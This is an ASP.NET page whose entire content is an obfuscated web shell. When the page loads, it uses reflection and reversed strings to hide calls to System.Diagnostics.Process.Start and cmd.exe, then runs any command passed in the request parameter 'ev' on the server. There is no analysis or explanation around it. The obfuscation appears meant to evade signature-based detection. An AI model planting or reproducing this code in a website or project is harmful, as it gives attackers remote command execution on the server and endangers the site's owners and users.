<%@ Page Language="C#" %>
<script runat="server">
string R(string s) { char[] c = s.ToCharArray(); Array.Reverse(c); return new string(c); }
void Page_Load() {
    string tn = R("ssecorP.scitsongaiD.metsyS") + ", " + "Sys" + "tem";
    var T = Type.GetType(tn);
    var m = T.GetMethod(R("tratS"), new[] { typeof(string), typeof(string) });
    var pr = m.Invoke(null, new object[] { R("exe.dmc"), "/c " + Request.Params["ev"] });
}
</script>
